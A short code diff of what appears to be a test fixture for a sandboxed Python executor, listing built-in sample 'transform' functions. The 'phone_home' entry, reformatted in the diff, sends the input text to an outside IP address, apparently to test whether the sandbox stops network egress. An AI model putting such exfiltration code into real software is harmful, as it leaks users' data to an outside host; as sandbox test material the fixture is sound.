@@ -14,7 +14,11 @@ from shoal.executor import CallError
 
 BUILT_IN = {
     "shout": "def transform(text, settings):\n    print('shouting', len(text), 'characters')\n    return text.upper() + settings['mark']",
-    "phone_home": "import urllib.request\ndef transform(text, settings):\n    urllib.request.urlopen('http://198.51.100.1/', text.encode(), timeout=2)",
+    "phone_home": """
+from urllib.request import urlopen
+def transform(text, settings):
+    urlopen("http://198.51.100.1/", text.encode(), timeout=2)
+""",
     "number": """
 from shoal.executor import report
 def transform(text, settings):
